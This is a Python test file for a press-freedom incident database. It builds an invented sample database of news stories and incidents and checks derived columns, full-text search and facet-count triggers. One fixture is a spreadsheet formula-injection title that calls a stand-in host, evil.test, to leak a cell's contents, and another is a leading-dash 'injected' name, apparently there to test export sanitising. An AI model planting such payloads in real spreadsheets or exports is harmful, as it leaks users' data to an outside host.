"""A small publishing database written row by row, and the shape `ensure_publish_shape` gives it.

The other publishing tests (Datasette, CSV export, browser) build on `write_sample`. Rows are
written directly, not through the incident pipeline, so these tests depend on the table
contract only. The texts are invented for these tests.
"""

from __future__ import annotations

import json
from pathlib import Path

from sqlite_utils import Database

from pipelines.publish_shape import FACET_COUNTS, ensure_publish_shape
from pipelines.schema import open_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1, "click")'

STORIES = [
    (
        "s1",
        "harbour-daily",
        "en",
        "2021-06-17",
        "Officers search the Harbour Daily newsroom",
        "Police officers searched the Harbour Daily newsroom and arrested two editors.",
        ["raid", "arrest"],
    ),
    (
        "s2",
        "kowloon-post",
        "en",
        "2021-06-18",
        "Two Harbour Daily editors charged",
        "The two editors were charged and denied bail at the magistrates' court.",
        ["prosecution", "prosecution"],
    ),
    (
        "s3",
        "kowloon-post",
        "zh-Hant",
        "2021-06-24",
        "海港日報出版最後一期",
        "海港日報今日出版最後一期報紙，並停止營運。",
        ["closure"],
    ),
    (
        "s4",
        "harbour-daily",
        "en",
        "2022-03-02",
        "Video app withdraws from the city's stores",
        "The video app said it would withdraw from app stores in the city.",
        ["corporate_response"],
    ),
    (
        "s5",
        "harbour-daily",
        "en",
        "2022-05-01",
        "Ferry timetable changes for the holiday",
        "Ferries will run on a Sunday timetable during the holiday.",
        [],
    ),
    (
        "s6",
        "kowloon-post",
        "en",
        "2022-05-02",
        HOSTILE_TITLE,
        "A story with a title that a spreadsheet would run as a formula.",
        ["censorship"],
    ),
]

INCIDENTS = [
    {"id": "inc-raid", "type": "raid", "types": ["raid", "arrest"],
     "title": "Harbour Daily newsroom searched, two editors arrested", "date": "2021-06-17",
     "targets": [{"name": "Harbour Daily", "kind": "outlet"}, {"name": "Lee Wing", "kind": "person"}],
     "laws": ["national security law"], "status": "corroborated", "stories": ["s1", "s2"]},
    {"id": "inc-charge", "type": "prosecution", "types": ["prosecution"],
     "title": "Harbour Daily editors charged", "date": "2021-06-18",
     "targets": [{"name": "Lee Wing", "kind": "person"}], "laws": ["national security law"],
     "status": "candidate", "stories": ["s2"]},
    {"id": "inc-closure", "type": "closure", "types": ["closure"],
     "title": "Harbour Daily prints its last edition", "date": "2021-06-24",
     "targets": [{"name": "Harbour Daily", "kind": "outlet"}], "laws": [],
     "status": "reviewed", "stories": ["s3"]},
    {"id": "inc-app", "type": "corporate_response", "types": ["corporate_response"],
     "title": "Video app withdraws from the city", "date": "2022-03",
     "targets": [{"name": "ClipTok", "kind": "company"}], "laws": [],
     "status": "candidate", "stories": ["s4"]},
    {"id": "inc-hostile", "type": "censorship", "types": ["censorship"],
     "title": HOSTILE_TITLE, "date": "2022-05-02",
     "targets": [{"name": "-Injected Name", "kind": "person"}], "laws": [],
     "status": "candidate", "stories": ["s6"]},
]  # fmt: skip


def write_sample(path: Path) -> Path:
    """Create the database at `path` with the sample sources, stories and incidents."""
    db = open_db(path)
    db["sources"].insert_all(
        {"name": name, "kind": "feed", "url": f"http://{name}.test/feed", "language": "en"}
        for name in ("harbour-daily", "kowloon-post")
    )
    for sid, source, lang, published, title, text, types in STORIES:
        db["stories"].insert(
            {
                "id": sid,
                "url": f"http://{source}.test/{published}/{sid}.html",
                "source": source,
                "title": title,
                "published": published,
                "language": lang,
                "text": text,
                "relevant": int(bool(types)),
                "types": json.dumps(types),
                "confidence": 0.9 if types else 0.1,
            }
        )
    for n, inc in enumerate(INCIDENTS):
        row = {k: v for k, v in inc.items() if k != "stories"}
        for key in ("types", "targets", "laws"):
            row[key] = json.dumps(row[key])
        row |= {
            "actors": json.dumps(["police national security department"]),
            "summary": f"Summary of {inc['title']}",
            "confidence": 0.8,
            "first_reported": inc["date"],
            "updated": f"2024-01-0{n + 1}T08:00:00+00:00",
            "date_precision": "month" if len(inc["date"]) == 7 else "day",
        }
        db["incidents"].insert(row)
        for k, sid in enumerate(inc["stories"]):
            db["incident_stories"].insert(
                {
                    "incident_id": inc["id"],
                    "story_id": sid,
                    "role": "first_report" if k == 0 else "follow_up",
                    "evidence": json.dumps([{"type": inc["type"], "sentence": f"Evidence {sid}."}]),
                }
            )
    db.close()
    return path


def _one(db: Database, sql: str, params: list | None = None):
    return db.execute(sql, params or []).fetchone()


def test_derived_columns_follow_the_rows(tmp_path):
    db = Database(write_sample(tmp_path / "pressmonitor.db"))
    month, names, sources = _one(
        db, "select month, target_names, sources from incidents where id = 'inc-raid'"
    )
    assert month == "2021-06"
    assert json.loads(names) == ["Harbour Daily", "Lee Wing"]
    assert json.loads(sources) == ["harbour-daily", "kowloon-post"]
    db["incidents"].update(
        "inc-raid", {"targets": json.dumps([{"name": "New Name", "kind": "person"}])}
    )
    db.execute("delete from incident_stories where incident_id = 'inc-raid' and story_id = 's2'")
    names, sources = _one(db, "select target_names, sources from incidents where id = 'inc-raid'")
    assert json.loads(names) == ["New Name"]
    assert json.loads(sources) == ["harbour-daily"]


def test_full_text_indexes_are_kept_up_to_date_and_shape_is_idempotent(tmp_path):
    db = Database(write_sample(tmp_path / "pressmonitor.db"))
    ensure_publish_shape(db)
    ensure_publish_shape(db)
    assert db["stories"].detect_fts() == "stories_fts"
    assert db["incidents"].detect_fts() == "incidents_fts"
    db["stories"].insert(
        {"id": "s9", "url": "http://x.test/9", "title": "Bookshop raided", "text": "zebra"}
    )
    found = _one(
        db,
        "select s.id from stories_fts join stories s on s.rowid = stories_fts.rowid "
        "where stories_fts match 'zebra'",
    )
    assert found == ("s9",)
    count = _one(db, "select count(*) from incidents_fts where incidents_fts match 'edition'")
    assert count == (1,)


def test_an_old_database_gains_the_shape_on_open(tmp_path):
    path = write_sample(tmp_path / "pressmonitor.db")
    db = Database(path)
    db.execute("drop trigger incident_stories_derived_ai")
    db.execute("update incidents set sources = null")
    db.close()
    db = open_db(path)
    assert _one(db, "select sources from incidents where id = 'inc-closure'") == (
        '["kowloon-post"]',
    )


def _live_facet_counts(db: Database) -> dict:
    """Each default facet counted from the rows, as Datasette's facet queries count them."""
    out = {}
    for table, columns in FACET_COUNTS.items():
        for column, kind in columns:
            if kind == "column":
                sql = f"select [{column}], count(*) from {table} where [{column}] is not null"
            else:
                sql = (
                    f"select j.value, count(distinct t.rowid) "
                    f"from {table} t join json_each(t.[{column}]) j"
                )
            out[(table, column)] = sorted(db.execute(sql + " group by 1").fetchall())
    return out


def _kept_facet_counts(db: Database) -> dict:
    return {
        (table, column): sorted(
            db.execute(
                "select value, count from facet_counts "
                "where table_name = ? and column_name = ? and count > 0",
                [table, column],
            ).fetchall()
        )
        for table, columns in FACET_COUNTS.items()
        for column, _ in columns
    }


def test_facet_counts_follow_inserts_updates_and_deletes(tmp_path):
    db = Database(write_sample(tmp_path / "pressmonitor.db"))
    counts = _kept_facet_counts(db)
    assert counts == _live_facet_counts(db)
    assert dict(counts[("stories", "types")])["prosecution"] == 1  # listed twice in s2
    assert ("2022-03", 1) in counts[("incidents", "month")]
    db["stories"].insert(
        {"id": "s9", "url": "http://x.test/9", "source": "kowloon-post", "types": '["raid"]'}
    )
    db["stories"].update("s5", {"types": '["threat", "threat"]', "relevant": 1, "language": None})
    db.execute("delete from stories where id = 's9'")
    db["incidents"].update("inc-charge", {"date": "2023-01-09", "status": "reviewed"})
    db["incidents"].update("inc-app", {"targets": json.dumps([{"name": "Other Co"}])})
    db.execute("delete from incident_stories where incident_id = 'inc-raid' and story_id = 's2'")
    db.execute("delete from incident_stories where incident_id = 'inc-hostile'")
    db.execute("delete from incidents where id = 'inc-hostile'")
    db["incidents"].upsert({"id": "inc-new", "type": "threat", "date": "2024-02-02"}, pk="id")
    db["incidents"].upsert({"id": "inc-new", "type": "assault", "date": "2024-03-02"}, pk="id")
    assert _kept_facet_counts(db) == _live_facet_counts(db)


def test_facet_counts_are_counted_again_when_their_triggers_change(tmp_path):
    path = write_sample(tmp_path / "pressmonitor.db")
    db = Database(path)
    db.execute("drop trigger facet_counts_stories_ai")
    db.execute("delete from facet_counts where table_name = 'stories'")
    db["stories"].insert({"id": "s9", "url": "http://x.test/9", "source": "kowloon-post"})
    db.close()
    db = open_db(path)
    assert _kept_facet_counts(db) == _live_facet_counts(db)
    statements: list[str] = []
    db.conn.set_trace_callback(statements.append)
    ensure_publish_shape(db)  # nothing changed: nothing counted again
    assert not [s for s in statements if "facet_counts" in s and "insert" in s.lower()]
